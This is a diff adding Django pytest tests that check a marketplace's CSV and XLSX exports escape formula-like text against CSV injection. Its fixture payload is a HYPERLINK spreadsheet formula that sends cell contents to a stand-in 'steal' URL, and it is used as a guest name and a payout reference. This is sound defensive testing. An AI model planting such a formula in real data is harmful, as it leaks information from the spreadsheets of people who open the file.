@@ -1,0 +1,90 @@
+"""Every CSV and XLSX the marketplace writes shows formula-like text as text (OWASP, CSV injection)."""
+
+import csv
+import io
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from marketplace.spreadsheets import safe_cell
+from tests.factories import product_for_sale
+from tests.purchases.test_checkout import add, checkout_data, open_shop, option
+from vendors import services
+from vendors.models import LedgerEntry
+
+pytestmark = pytest.mark.django_db
+User = get_user_model()
+HYPERLINK = '=HYPERLINK("https://ocop.example/steal?d="&A1,"Xem")'
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+84912345678", "'+84912345678"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("Chả mực = ngon", "Chả mực = ngon"),
+        ("", ""),
+        (-50_000, -50_000),
+        (630_000, 630_000),
+        (None, None),
+    ],
+)
+def test_formula_like_text_gets_a_quote_and_numbers_stay_numbers(value, expected):
+    assert safe_cell(value) == expected
+
+
+@pytest.fixture
+def shop_with_an_order(client):
+    user = User.objects.create_user("ban0@example.vn", "ban0@example.vn", "pw-123456")
+    vendor = open_shop(owner=user)
+    services.seller_centre_access_set(vendor, allowed=True)
+    product = product_for_sale(vendor, title="Chả mực A", price=200_000, stock=10)
+    add(client, product, 3)
+    # A guest checks out with a formula for a name.
+    response = client.post(
+        reverse("checkout:index"), checkout_data({vendor: option(vendor, "flat")}, name=HYPERLINK)
+    )
+    assert response.status_code == 302
+    client.logout()
+    return vendor
+
+
+def test_the_statement_csv_shows_a_formula_reference_as_text_and_amounts_as_numbers(
+    client, shop_with_an_order
+):
+    admin = User.objects.get(email="admin@ocop.local")
+    services.payout_record(vendor=shop_with_an_order, amount=100_000, bank_reference=HYPERLINK, by=admin)
+    assert LedgerEntry.objects.get(vendor=shop_with_an_order, kind="payout").reference == HYPERLINK
+    client.login(username="ban0@example.vn", password="pw-123456")
+    exported = client.get(reverse("dashboard:shop-statement-csv")).content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    payout = rows[-1]
+    assert payout["reference"] == "'" + HYPERLINK
+    assert payout["amount_vnd"] == "-100000"  # a number the seller's spreadsheet can sum
+    assert [int(r["amount_vnd"]) for r in rows][:2] == [600_000, -30_000]
+
+
+def test_the_seller_s_order_download_shows_a_guest_s_formula_name_as_text(client, shop_with_an_order):
+    client.login(username="ban0@example.vn", password="pw-123456")
+    response = client.get(reverse("dashboard:order-list") + "?response_format=csv")
+    assert response.status_code == 200
+    text = response.content.decode("utf-8-sig")
+    assert "'" + HYPERLINK.replace('"', '""') in text
+    rows = list(csv.reader(io.StringIO(text)))
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_the_import_templates_hold_no_formula():
+    from vendors import product_import
+
+    rows = list(csv.reader(io.StringIO(product_import.template_csv().decode("utf-8-sig"))))
+    sheet = load_workbook(io.BytesIO(product_import.template_xlsx())).active
+    cells = [cell for row in rows for cell in row] + [c.value for row in sheet.iter_rows() for c in row]
+    assert not any(isinstance(c, str) and c.startswith(("=", "+", "-", "@")) for c in cells)
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
